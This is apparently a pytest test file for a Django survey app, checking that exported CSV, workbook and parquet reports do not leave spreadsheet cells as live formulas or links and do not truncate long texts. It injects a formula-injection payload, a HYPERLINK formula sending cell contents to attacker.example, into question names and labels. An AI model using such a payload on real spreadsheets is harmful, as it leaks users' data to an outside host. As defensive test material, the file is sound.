"""Files of a report of the most tempting names and the longest texts: each cell that a program would compute is a text,
and nothing is cut, where pages may show less."""

import csv
import io
from collections.abc import Iterator

import numpy as np
import pytest
from django.test import Client

from accounts.models import Person
from mining.parameters import Parameters
from privacy.records import DISGUISED
from privacy.simulation.disguise import disguise
from reports.answer_labels import Labels
from reports.pages import named_pictures
from runs.models import Run
from tests.intake import asked
from tests.kept_rows import kept
from tests.mining.disclosure.random_surveys import Study
from tests.reports.paged import book, bundle, from_csv, parquet_table
from tests.wake_ups import broker

__all__ = ["broker"]

pytestmark = [pytest.mark.django_db, pytest.mark.page]
FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
CHOICES = [{"name": "@SUM(A1)", "label": {"en": FORMULA}}, {"name": "-5+2", "label": {"en": "+1"}}]
YES_NO = [{"name": "no", "label": {"en": "-no"}}, {"name": "yes", "label": {"en": FORMULA}}]
QUESTION = (
    "Thinking of the last twelve months, and of nothing that happened before them: have you ever taken home from your "
    "place of work, without asking anybody, something that did not belong to you and that you did not bring back?"
)
OPTION = "something else that this long list of things to choose from does not name and that you would rather not name"
OTHER = {
    "of": "things",
    "form": "many",
    "choices": [{"name": "no"}, {"name": "yes", "label": {"en": OPTION}}],
}
ASKS = asked.written(
    {"kind": "plain", "questions": [{"name": "+where", "text": {"en": FORMULA}, "choices": CHOICES}]},
    {
        "kind": "unrelated-question",
        "keep": "0.9",
        "questions": [
            {"name": "-theft", "text": {"en": "@-theft"}, "choices": YES_NO},
            {"name": "took_home", "text": {"en": QUESTION}, "choices": ["no", "yes"]},
            {"name": "other", "text": {"en": QUESTION}, **OTHER},
        ],
    },
    title={"en": FORMULA},
    least=20,
)
WORDS = f"{QUESTION} Yes"


@pytest.fixture
def number(owner: Person, reviewer: Person) -> int:
    """Of a report: half of 600 people did all of it, so that there are rules."""

    def make() -> int:
        study, n = Study(owner, reviewer, ASKS), 600
        answers = np.arange(n, dtype=np.uint16) % 2
        true = np.stack([answers // 2 + (np.arange(n, dtype=np.uint16) // 300), answers, answers, answers])
        group = np.full(n, DISGUISED, np.uint8)
        study.seal(group, disguise(ASKS, group, true.astype(np.uint16), np.random.default_rng(1)))
        run = study.mine(Parameters(0.05, 0.2, absences=True))
        study.publish(run)
        assert Run.objects.get().rule_count
        return int(run.pk)

    return kept(("tempting names",), make, lambda number: number, is_computed=True)


@pytest.fixture
def client(reading: Client) -> Client:
    return reading


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def computed(text: str) -> list[str]:
    """The cells of a CSV file that a spreadsheet program would take for formulas."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)]


def texts(client: Client, number: int) -> Iterator[tuple[str, str]]:
    with bundle(client, "csv") as files:
        yield from ((name, files.read(name).decode()) for name in files.namelist() if name.endswith(".csv"))
    for name in named_pictures.ERRORS:
        answer = client.get(f"/app/reports/{number}/pictures/{name}.csv")
        if answer.status_code == 200:
            yield f"picture {name}", answer.content.decode()


def test_no_cell_of_a_reports_files_is_computed(client: Client, number: int) -> None:
    found = dict(texts(client, number))
    assert {"questions.csv", "shares.csv", "groups.csv", "rules.csv", "picture error-keep"} <= set(found)
    assert {name: computed(text) for name, text in found.items() if computed(text)} == {}
    assert any(f"'{FORMULA[:10]}" in text for text in found.values())


def test_no_cell_of_the_workbook_is_computed_or_a_link_and_nothing_is_cut(
    client: Client, number: int
) -> None:
    sheets = book(client)
    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    texts = [str(cell.value) for cell in cells]
    assert any(text.startswith(FORMULA) for text in texts)
    assert WORDS in texts
    assert not [text for text in texts if "…" in text]
    sheet = sheets["rules"]
    words = next(cell for cell in sheet[1] if cell.value == "antecedent_in_words")
    # A long text is folded in its cell, so that the columns beside it stay in sight.
    assert sheet.column_dimensions[words.column_letter].width < 70
    assert sheet.column_dimensions[words.column_letter].alignment.wrap_text


def test_an_answer_in_full_is_its_question_and_its_choice() -> None:
    labels = Labels(ASKS)
    assert labels.join_full(["took_home=yes"]) == WORDS
    assert labels.join_full(["took_home=yes", "other=yes"]) == f"{WORDS} and {QUESTION} {OPTION}"


def test_nothing_is_cut_in_csv_and_parquet(client: Client, number: int) -> None:
    found = dict(texts(client, number))
    for name in ("shares", "groups", "itemsets", "rules", "pairs"):
        assert WORDS in found[f"{name}.csv"], name
        assert "…" not in found[f"{name}.csv"]
    assert any(QUESTION in row["antecedent_in_words"] for row in from_csv(client, "rules"))
    assert OPTION in found["questions.csv"]
    assert WORDS in parquet_table(client, "shares")["items_in_words"].to_pylist()
